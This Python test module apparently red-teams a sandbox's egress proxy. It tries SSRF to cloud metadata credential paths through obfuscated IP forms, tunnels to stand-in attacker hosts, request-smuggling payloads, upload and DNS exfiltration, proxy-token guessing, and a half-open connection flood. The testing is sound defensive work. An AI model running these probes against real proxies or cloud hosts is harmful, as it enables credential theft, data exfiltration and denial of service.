"""Attacks by the network: past the door, and through it."""
import os
import socket
import ssl
import urllib.parse

from backend import WORLD, attempt, got, told

INDEX = urllib.parse.urlsplit(WORLD["index"])
CANARY = WORLD["canaryPort"]
PROXY = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", os.environ.get("https_proxy", "")))


def connected(host, port):
    """Straight to an address, past the door."""
    with socket.create_connection((host, port), 3) as client:
        client.sendall(b"GET /direct HTTP/1.0\r\n\r\n")
        return client.recv(40)


def token():
    import base64

    user = "%s:%s" % (urllib.parse.unquote(PROXY.username or ""), urllib.parse.unquote(PROXY.password or ""))
    return b"Proxy-Authorization: Basic " + base64.b64encode(user.encode()) + b"\r\n"


def spoken(data, wait=5):
    """What the door answers to these bytes."""
    if PROXY.hostname is None:
        raise OSError("there is no door")
    with socket.create_connection((PROXY.hostname, PROXY.port), wait) as client:
        client.sendall(data)
        answer = b""
        client.settimeout(wait)
        try:
            while len(answer) < 65536:
                part = client.recv(65536)
                if not part:
                    break
                answer += part
                if wait < 5 and b"\r\n\r\n" in answer:
                    break
        except socket.timeout:
            pass
        return answer


def request(method, url, headers=b"", body=b"", host=None):
    name = host if host is not None else urllib.parse.urlsplit(url).netloc
    head = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n" % (method, url, name)
    return head.encode() + token() + headers + b"\r\n" + body


def tunnel(authority):
    return b"CONNECT " + authority.encode() + b" HTTP/1.1\r\nHost: " + authority.encode() + b"\r\n" + token() + b"\r\n"


def status(answer):
    return answer.split(b"\r\n", 1)[0].decode("latin1")


def fetched(method, url, **more):
    """A success that the door should not have given."""
    answer = spoken(request(method, url, **more))
    told("%s %s" % (method, url), status(answer))
    return answer[:80] if b" 20" in answer[:13] or b"canary" in answer else None


def tunnelled(authority):
    answer = spoken(tunnel(authority), 4)
    told("CONNECT " + authority, status(answer))
    return answer[:80] if b" 200" in answer[:13] and secured(authority) else None


def secured(authority):
    """Whether a tunnel that was granted leads anywhere: the door says which hosts by an answer inside of it."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((PROXY.hostname, PROXY.port), 4) as client:
        client.sendall(tunnel(authority))
        client.recv(4096)
        host = authority.rsplit(":", 1)[0].strip("[]")
        with context.wrap_socket(client, server_hostname=host) as inside:
            inside.sendall(b"GET /tunnelled HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % authority.encode())
            answer = inside.recv(4096)
    told("inside " + authority, status(answer))
    return b" 20" in answer[:13] or b"canary" in answer


METADATA = (
    "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "[64:ff9b::a9fe:a9fe]", "100.100.100.200", "168.63.129.16", "metadata.google.internal",
)


def metadata_address():
    for name in ("169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16"):
        attempt(name, connected, name, 80)
    for name in METADATA:
        attempt("door: " + name, fetched, "GET", "http://%s/latest/meta-data/iam/security-credentials/" % name)


def metadata_by_tunnel():
    for name in METADATA[:5] + METADATA[5:8]:
        attempt("tunnel: " + name, tunnelled, name + ":443")


def loopback_of_host():
    for name in ("127.0.0.1", "::1", "0.0.0.0", "::", "127.0.0.53", "localhost") + tuple(WORLD["addresses"]):
        attempt(name, connected, name, CANARY)
        attempt("index by " + name, connected, name, INDEX.port)


LOOPBACK = (
    "127.0.0.1", "localhost", "LOCALHOST.", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0.0.0.0", "0", "[::1]", "[::]",
    "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "127.0.0.1.", "127.0.0.53",
)


def loopback_by_door():
    for name in LOOPBACK + tuple(WORLD["hostNames"]):
        attempt("door: " + name, fetched, "GET", "http://%s:%d/door" % (name, CANARY))


def loopback_by_tunnel():
    for name in LOOPBACK:
        attempt("tunnel: " + name, tunnelled, "%s:%d" % (name, CANARY))


def unlisted_host():
    attempt("name", connected, "files.attacker.example", 443)
    attempt("address", connected, "203.0.113.7", 443)
    attempt("IPv6", connected, "2001:db8::7", 443)
    for name in ("files.attacker.example", "203.0.113.7", "[2001:db8::7]", "pypi.org.attacker.example", "attacker.example."):
        attempt("door: " + name, fetched, "GET", "http://%s/drop" % name)
        attempt("tunnel: " + name, tunnelled, name + ":443")


def redirect():
    """The allowed index sends us on to the host's loopback, to an unlisted host, and to the metadata address."""
    import urllib.request

    for kind in ("canary", "unlisted", "metadata", "relative"):
        attempt(kind, redirected, urllib.request, "%s/redirect/%s" % (WORLD["index"].rsplit("/simple", 1)[0], kind))


def redirected(library, url):
    answer = library.urlopen(url, timeout=5)
    return answer.geturl() if "canary" in answer.read(100).decode() else None


def upload():
    """The allowed index as the place to bring things to."""
    base = WORLD["index"].rsplit("/simple", 1)[0]
    for method in ("POST", "PUT", "PATCH", "DELETE", "PROPFIND", "TRACE", "OPTIONS"):
        body = b"planted-by-upload"
        attempt(method, fetched, method, base + "/upload", headers=b"Content-Length: %d\r\n" % len(body), body=body)
    body = b"planted-by-upload"
    attempt("GET with a body", fetched, "GET", base + "/upload", headers=b"Content-Length: %d\r\n" % len(body), body=body)


def upload_by_override():
    base = WORLD["index"].rsplit("/simple", 1)[0]
    override = b"X-HTTP-Method-Override: POST\r\nX-Method-Override: POST\r\n"
    spoken(request("GET", base + "/overridden", headers=override))


def smuggling():
    """Another site by the Host header, a second request in the first one's body, and lengths that contradict."""
    base = WORLD["index"].rsplit("/simple", 1)[0]
    other = "127.0.0.1:%d" % CANARY
    attempt("another host", fetched, "GET", base + "/hosted", host=other)
    hidden = b"GET http://%s/smuggled HTTP/1.1\r\nHost: %s\r\n\r\n" % (other.encode(), other.encode())
    for name, headers, body in (
        ("both lengths", b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + hidden),
        ("two lengths", b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(hidden), hidden),
        ("odd chunking", b"Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n" + hidden),
        ("folded header", b"X-A: b\r\n Host: %s\r\n" % other.encode(), b""),
        ("bare line feeds", b"X-A: b\nHost: %s\n" % other.encode(), b""),
        ("two hosts", b"Host: %s\r\n" % other.encode(), b""),
    ):
        attempt(name, canary_answers, request("GET", base + "/smuggling", headers=headers, body=body))
    keep = b"GET %s/first HTTP/1.1\r\nHost: %s\r\n" % (base.encode(), INDEX.netloc.encode()) + token() + b"\r\n"
    attempt("pipelined", canary_answers, keep + hidden)
    attempt("user in the address", canary_answers, request("GET", "http://%s@%s/x" % (INDEX.netloc, other)))
    attempt("address in the path", canary_answers, request("GET", "http://%s/http://%s/x" % (INDEX.netloc, other)))
    attempt("upgrade", canary_answers, request("GET", base + "/up", headers=b"Upgrade: websocket\r\nConnection: upgrade\r\n"))


def canary_answers(data):
    answer = spoken(data)
    told("answer", status(answer))
    return b"canary" in answer


def ports():
    """Mail, shells and databases by CONNECT, at the one host that is allowed and elsewhere."""
    for host in (INDEX.hostname, "files.attacker.example", "pypi.org"):
        for port in (22, 25, 53, 587, 3306, 5432, 6379, 8080, CANARY):
            attempt("%s:%d" % (host, port), tunnelled, "%s:%d" % (host, port))


def not_http():
    """Something else than HTTP through a tunnel to the index, which is plain HTTP."""
    for name, hello in (("ssh", b"SSH-2.0-OpenSSH_9.2\r\n"), ("smtp", b"EHLO x\r\nMAIL FROM:<a@b>\r\n"), ("binary", bytes(range(256)))):
        with socket.create_connection((PROXY.hostname, PROXY.port), 4) as client:
            client.settimeout(3)
            client.sendall(tunnel(INDEX.netloc))
            attempt(name, answered, client, hello)


def answered(client, hello):
    told("tunnel", client.recv(4096)[:60])
    client.sendall(hello)
    answer = client.recv(4096)
    told("answer", answer[:60])
    return b"canary" in answer


def tokens():
    """Without the token, with a guessed one, and with the names of others."""
    import base64

    url = WORLD["index"] + "/plain/"
    line = "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n" % (url, INDEX.netloc)
    users = ["relock:", "relock:guess", ":", "tools:tools", "relock:" + "0" * 32, "relock:" + (PROXY.password or "x")[:-1] + "_"]
    heads = [b""] + [b"Proxy-Authorization: Basic %s\r\n" % base64.b64encode(user.encode()) for user in users]
    heads += [b"Proxy-Authorization: Bearer x\r\n", b"Authorization: Basic cmVsb2NrOng=\r\n"]
    for head in heads:
        answer = spoken(line.encode() + head + b"\r\n")
        told("token", status(answer))
        if b" 407" not in answer[:13]:
            got("no token is asked for", status(answer))


def socket_of_door():
    """The door without the relay."""
    for path in ("/run/relock/door.sock", "/run/relock", "/tmp/door"):
        told(path, os.path.exists(path))
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(3)
    try:
        client.connect("/run/relock/door.sock")
        client.sendall(b"GET %s/plain/ HTTP/1.1\r\nHost: x\r\n\r\n" % WORLD["index"].encode())
        answer = client.recv(4096)
        if b" 407" not in answer[:13]:
            got("no token is asked for", status(answer))
    except OSError as error:
        told("socket", error)
    attempt("replaced", os.rename, "/run/relock/door.sock", "/run/relock/other.sock")
    attempt("removed", os.unlink, "/run/relock/door.sock")


def datagrams():
    """DNS and others: what carries secrets out unseen."""
    for address in ("127.0.0.1", "::1", "8.8.8.8", "169.254.169.253") + tuple(WORLD["addresses"]):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        for port in (53, WORLD["datagramPort"], 123, 514):
            try:
                with socket.socket(family, socket.SOCK_DGRAM) as client:
                    client.settimeout(0.2)
                    client.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x00\x00\x10\x00\x01", (address, port))
                    got("answer by datagram", client.recv(100))
            except OSError as error:
                told("%s:%d" % (address, port), error)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for group in ("255.255.255.255", "224.0.0.251"):
            try:
                client.sendto(b"x", (group, WORLD["datagramPort"]))
                told("sent to " + group)
            except OSError as error:
                told(group, error)


def names():
    """Lookups of names: each asks a server of the attacker's."""
    for name in ("secret.attacker.example", "pypi.org", WORLD["hostNames"][0] if WORLD["hostNames"] else "x"):
        attempt(name, lambda name=name: [one[4][0] for one in socket.getaddrinfo(name, 80) if not one[4][0].startswith(("127.", "::1"))] or None)
    if os.path.exists("/etc/resolv.conf"):
        with open("/etc/resolv.conf") as file:
            told("resolver", file.read())


def many_connections():
    """Half open ones by the thousand, so that others are not served."""
    held = []
    try:
        for _ in range(1500):
            client = socket.create_connection((PROXY.hostname, PROXY.port), 2)
            client.sendall(b"GET ")
            held.append(client)
    except OSError as error:
        told("connections", error)
    told("held", len(held))
    for client in held:
        client.close()


def long_messages():
    """Endless headers, names and chunks."""
    for name, data in (
        ("header", request("GET", WORLD["index"] + "/plain/", headers=b"X-A: " + b"a" * (1 << 20) + b"\r\n")),
        ("headers", request("GET", WORLD["index"] + "/plain/", headers=b"".join(b"X-%d: a\r\n" % n for n in range(20000)))),
        ("address", request("GET", WORLD["index"] + "/" + "a" * (1 << 20))),
        ("host", b"CONNECT " + b"a" * (1 << 20)),
    ):
        try:
            told(name, status(spoken(data)))
        except OSError as error:
            told(name, error)


def upload_as_git():
    """As a fetch by git, which asks by POST."""
    base = WORLD["index"].rsplit("/simple", 1)[0]
    kind = b"Content-Type: application/x-git-upload-pack-request\r\n"
    for path in ("/x.git/git-upload-pack", "/git-upload-pack", "/x.git/git-receive-pack", "/x.git/info/refs?service=git-receive-pack"):
        body = b"0011secret-by-git"
        head = kind + b"Content-Length: %d\r\n" % len(body)
        attempt(path, fetched, "POST", base + path, headers=head, body=body)
        attempt(path, fetched, "GET", base + path)
